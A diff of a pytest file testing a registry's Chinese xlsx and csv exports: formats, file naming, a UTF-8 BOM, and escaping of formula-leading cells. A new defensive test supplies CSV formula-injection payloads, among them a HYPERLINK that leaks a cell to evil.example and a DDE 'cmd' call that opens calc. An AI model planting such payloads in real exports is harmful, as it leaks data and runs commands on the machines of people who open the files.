@@ -3,7 +3,10 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import hashlib
+import io
+import re
 from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -117,11 +120,16 @@ def test_stats_are_scoped(dataset: Registry):
     assert s["activities"]["total"] == 0
 
 
-def test_xlsx_export_keeps_chinese(dataset: Registry, tmp_path: Path):
+def _xlsx_rows(export) -> tuple[list, object]:
+    ws = load_workbook(io.BytesIO(export.data)).active
+    return list(ws.iter_rows(values_only=True)), ws
+
+
+def test_xlsx_export_keeps_chinese_and_real_cells(dataset: Registry):
     admin = dataset.ensure_local_admin()
-    path = dataset.export_competitions(tmp_path / "out" / "竞赛.xlsx", fmt="xlsx", user=admin)
-    ws = load_workbook(path).active
-    rows = list(ws.iter_rows(values_only=True))
+    export = dataset.export("competitions", "xlsx", user=admin, on=dt.date(2026, 12, 2))
+    assert export.filename == "竞赛登记-2026-12-02.xlsx"  # the one naming scheme of every channel
+    rows, ws = _xlsx_rows(export)
     header = rows[0]
     assert header[:4] == ("登记编号", "竞赛名称", "竞赛类型", "其他竞赛形式") and "联系电话" in header
     first = dict(zip(header, rows[1], strict=True))
@@ -130,26 +138,53 @@ def test_xlsx_export_keeps_chinese(dataset: Registry, tmp_path: Path):
         2026, 6, 1
     )
     assert first["参与率"] == 0.25 and first["登记人"] == "松北干部"
+    rate = header.index("参与率") + 1
+    assert ws.cell(row=2, column=rate).number_format == "0.0%"  # shown as 25.0%
+    created = header.index("登记时间") + 1
+    cell = ws.cell(row=2, column=created)
+    assert isinstance(cell.value, dt.datetime) and cell.number_format == "yyyy-mm-dd hh:mm"
+    stored = dt.datetime.fromisoformat(dataset.competition(1, user=admin).created_at)
+    assert cell.value == stored.astimezone(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)
     third = dict(zip(header, rows[3], strict=True))
     assert third["竞赛名称"].startswith("=cmd") and ws.cell(row=4, column=2).data_type == "s"
     assert third["对应工会"] == "待核对"
-    activities = dataset.export_activities(tmp_path / "a.xlsx", fmt="xlsx", user=admin)
-    arows = list(load_workbook(activities).active.iter_rows(values_only=True))
+    arows, _ = _xlsx_rows(dataset.export("activities", "xlsx", user=admin))
     assert arows[0][1] == "活动形式" and arows[3][1] == "宣传" and len(arows) == 4
 
 
-def test_csv_export_has_bom_and_chinese_headers(dataset: Registry, tmp_path: Path):
+def test_csv_export_has_bom_and_chinese_headers(dataset: Registry):
     admin = dataset.ensure_local_admin()
-    path = dataset.export_competitions(tmp_path / "c.csv", fmt="csv", user=admin)
-    raw = path.read_bytes()
+    raw = dataset.export("competitions", "csv", user=admin).data
     assert raw.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
     assert rows[0][0] == "登记编号" and rows[1][0] == "JS-2026-0001" and rows[1][12] == "2026-06-01"
+    assert rows[1][16] == "25.0%" and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", rows[1][22])
     assert rows[3][1].startswith("'=")  # no formula injection
     assert rows[3][19] == "含“引号”，和逗号"
-    assert dataset.export_activities(tmp_path, fmt="csv", user=admin).read_bytes().startswith(b"\xef\xbb\xbf")
+    assert dataset.export("activities", "csv", user=admin).data.startswith(b"\xef\xbb\xbf")
     with pytest.raises(InvalidValue, match="不支持"):
-        dataset.export_competitions(tmp_path / "c.pdf", fmt="pdf", user=admin)
+        dataset.export("competitions", "pdf", user=admin)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ['=1+HYPERLINK("http://evil.example/?leak="&B2,"详情")', "=2+5+cmd|' /C calc'!A0", "-2+3", "+1",
+     "@SUM(A1)", "\t=1", "\r=1"],
+)  # fmt: skip
+def test_csv_neutralises_every_formula_start(reg: Registry, payload: str):
+    admin = reg.ensure_local_admin()
+    stored = reg.register_competition(competition(description=payload), by=admin).description
+    rows = list(
+        csv.reader(reg.export("competitions", "csv", user=admin).data.decode("utf-8-sig").splitlines())
+    )
+    assert stored[0] in "=+-@\t\r" and rows[1][19] == "'" + stored
+
+
+def test_export_to_a_folder_keeps_earlier_exports(dataset: Registry, tmp_path: Path):
+    admin = dataset.ensure_local_admin()
+    first = dataset.export_to(tmp_path, "activities", "csv", user=admin)
+    second = dataset.export_to(tmp_path, "activities", "csv", user=admin)
+    assert first.parent == second.parent == tmp_path and first != second and first.is_file()
 
 
 def test_activity_with_attachments(dataset: Registry):
